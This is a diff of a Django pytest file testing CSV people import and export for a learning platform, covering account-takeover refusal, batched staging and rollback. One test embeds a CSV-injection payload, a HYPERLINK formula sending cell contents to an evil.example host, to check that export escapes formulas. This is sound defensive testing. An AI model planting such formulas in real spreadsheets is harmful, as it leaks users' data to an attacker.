@@ -1,14 +1,17 @@
 from __future__ import annotations
 
+import csv
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
+from django.contrib.auth.models import User
+from django.db import IntegrityError
 
 from skillpath.content.reader import read_package
 from skillpath.content.services import organization_ensure, package_import
-from skillpath.people import importing
+from skillpath.people import import_writing
 from skillpath.people.exporting import people_export
 from skillpath.people.importing import (
     PeopleFileUnreadable,
@@ -18,7 +21,7 @@ from skillpath.people.importing import (
     people_import,
 )
 from skillpath.people.models import Organization, Person, Team
-from skillpath.people.services import PersonInvalid, PersonSpec, person_upsert
+from skillpath.people.services import PersonSpec, person_upsert
 from tests.helpers import DEMO, edit_yaml, mini_source
 
 pytestmark = pytest.mark.django_db
@@ -127,9 +130,9 @@ def test_running_the_same_file_again_changes_nothing_and_writes_nothing(
     rows = ("Bo,bo@acme.test,seller,senior-seller,,Sales,2025-06-01", "Cy,cy@acme.test,seller,,bo@acme.test,Sales,")
     run(org, *rows)
     before = state()
-    # Roles and their levels, people and their managers, e-mails of other organizations, then within a
-    # savepoint the people in the file with their roles: however many people, and not one write.
-    with django_assert_num_queries(8):
+    # Roles and their levels, people and their managers, accounts the file may not take, then the people in
+    # the file with their roles: however many people, and not one write (not even a transaction).
+    with django_assert_num_queries(6):
         assert run(org, *rows) == PeopleImportResult(created=0, updated=0, unchanged=2)
     assert state() == before
 
@@ -216,19 +219,17 @@ def test_export_then_import_is_a_no_op(org: Organization) -> None:
     assert state() == before
 
 
-def test_a_failure_while_applying_rolls_back_every_person(org: Organization, monkeypatch: pytest.MonkeyPatch) -> None:
-    calls: list[str] = []
+def test_a_failure_while_applying_rolls_back_every_person_and_staged_account(
+    org: Organization, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def broken(*args: Any, **kwargs: Any) -> None:
+        raise IntegrityError("the database changed under us")
 
-    def flaky(org: Organization, spec: PersonSpec, **kwargs: Any) -> Person:
-        calls.append(spec.email)
-        if len(calls) == 2:
-            raise PersonInvalid("the database changed under us")
-        return person_upsert(org, spec, **kwargs)
-
-    monkeypatch.setattr(importing, "person_upsert", flaky)
-    with pytest.raises(PeopleImportInvalid, match="row 3: the database changed under us"):
+    monkeypatch.setattr(import_writing, "_roles", broken)
+    with pytest.raises(IntegrityError):
         run(org, "Ana,ana@acme.test,seller,,,Sales,", "Bo,bo@acme.test,seller,,,Sales,")
     assert not Person.objects.exists() and not Team.objects.exists()
+    assert not User.objects.exists()  # the accounts prepared for them were removed again
 
 
 def test_file_text_is_utf8_with_or_without_a_byte_order_mark_and_at_most_2_mb() -> None:
@@ -248,3 +249,55 @@ def test_the_documented_example_imports_into_the_demo_academy(now: datetime) -> 
     result = people_import(organization_ensure("northwind"), example, today=TODAY)
     assert result == PeopleImportResult(created=2, updated=0, unchanged=0)
     assert person("sam@northwind.example.com").manager == person("maya@northwind.example.com")
+
+
+def test_a_file_cannot_take_over_the_platform_superuser_or_an_account_outside_any_organization(
+    org: Organization, settings: Any
+) -> None:
+    User.objects.create_superuser("root@platform.test", "root@platform.test", "root-long-password")
+    User.objects.create_user("loner@acme.test", "loner@acme.test", "loner-long-password")
+    with pytest.raises(PeopleImportInvalid) as refused:
+        run(org, "Root,root@platform.test,seller,,,,", "Loner,loner@acme.test,seller,,,,")
+    assert [str(e) for e in refused.value.errors] == [
+        'row 2, email: "root@platform.test" is a platform staff account; it cannot join an organization by import',
+        'row 3, email: "loner@acme.test" is an existing account outside any organization; it can join only if the '
+        "platform operator allows it, so use a different e-mail address",
+    ]
+    assert not Person.objects.exists()
+    settings.IMPORT_MAY_CLAIM_ACCOUNTS = True  # the operator allows it
+    assert run(org, "Loner,loner@acme.test,seller,,,,").created == 1
+    assert person("loner@acme.test").user.check_password("loner-long-password")  # the account, as it was
+
+
+def test_new_people_are_staged_invisibly_and_appear_together(org: Organization) -> None:
+    seen: list[tuple[str, int, int]] = []
+
+    def progress(phase: str, done: int, total: int) -> None:
+        seen.append((phase, Person.objects.count(), User.objects.filter(is_active=True).count()))
+
+    rows = [f"P{i},p{i}@acme.test,seller,,,Team {i % 3}," for i in range(1200)]
+    people_import(org, csv_of(*rows), today=TODAY, progress=progress)
+    staged = [s for s in seen if s[0] == "preparing"]
+    assert len(staged) == 3  # 500 + 500 + 200 accounts, each batch its own short transaction
+    assert all(people == 0 and active == 0 for _, people, active in staged)  # nothing visible yet
+    assert Person.objects.count() == 1200 and User.objects.filter(is_active=True).count() == 1200
+    assert Team.objects.count() == 3
+
+
+def test_names_and_teams_that_look_like_formulas_are_escaped_in_the_export_and_import_back(
+    org: Organization,
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    run(
+        org,
+        f'"{evil.replace(chr(34), chr(34) * 2)}",ev@acme.test,seller,,,@SUM(1+1),',
+        "-Bo,bo@acme.test,seller,,,+Team,",
+    )
+    assert person("ev@acme.test").name == evil  # the import takes the text as it is
+    export = people_export(org)
+    cells = [cell for line in export.text.splitlines()[1:] for cell in next(csv.reader([line]))]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "'@SUM(1+1)" in cells and "'-Bo" in cells
+    before = state()
+    assert people_import(org, export.text, today=TODAY) == PeopleImportResult(created=0, updated=0, unchanged=2)
+    assert state() == before
